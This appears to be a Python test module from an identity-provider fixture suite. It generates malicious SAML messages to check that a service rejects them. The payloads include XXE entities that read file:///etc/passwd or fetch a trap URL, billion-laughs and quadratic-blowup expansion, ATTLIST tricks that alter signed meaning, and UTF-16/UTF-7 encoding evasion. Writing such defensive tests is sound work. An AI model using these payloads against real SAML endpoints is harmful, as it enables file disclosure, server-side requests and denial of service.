"""The message declares a document type: entities of files and addresses, entities that grow, IDs and defaults of the attacker's.

Known from: XXE (CVE-2016-10149 pysaml2, CVE-2017-1000452), billion laughs (2002), attribute defaults that change signed meaning.
"""

from __future__ import annotations

from collections.abc import Iterator

from idp_fixtures.saml.message import make
from idp_fixtures.threats import Attempt
from idp_fixtures.threats.saml._stage import Stage


def attack(stage: Stage) -> Iterator[Attempt]:
    """Before the genuine message, with the entity used in the victim's place."""
    for form, subset in _subsets(stage.trap_url).items():
        begun = stage.begin()
        xml = make(stage.answer(begun)).replace(stage.attacker.email.encode(), b"&e;", 1)
        yield Attempt(form, stage.send(begun, b"<!DOCTYPE Response " + subset.encode() + b">" + xml), ("saml_doctype",))
    begun = stage.begin()
    sly = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]>'.encode("utf-16")
    yield Attempt("in UTF-16", stage.send(begun, sly + make(stage.answer(begun)).decode().encode("utf-16-le")), HIDDEN)
    begun = stage.begin()
    seven = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-' + make(stage.answer(begun))
    yield Attempt("in UTF-7", stage.send(begun, seven), HIDDEN)
    begun = stage.begin()
    used = make(stage.answer(begun)).replace(stage.attacker.email.encode(), b"&e;", 1)
    yield Attempt("an entity that nobody declared", stage.send(begun, used), ("saml_not_xml",))


HIDDEN = ("saml_not_xml", "saml_doctype", "saml_markup")


def _subsets(trap: str) -> dict[str, str]:
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return {
        "an empty one": "",
        "of an address": f'SYSTEM "{trap}"',
        "an entity of a file": '[<!ENTITY e SYSTEM "file:///etc/passwd">]',
        "an entity of an address": f'[<!ENTITY e SYSTEM "{trap}">]',
        "a parameter entity": f'[<!ENTITY % p SYSTEM "{trap}"> %p;]',
        "a billion laughs": f'[<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l9;">]',
        "quadratic blowup": f'[<!ENTITY e "{"x" * 50_000}">]',
        "an ID of another name": "[<!ATTLIST Response Destination ID #IMPLIED>]",
        "a default": '[<!ATTLIST Response Version CDATA "2.0">]',
    }
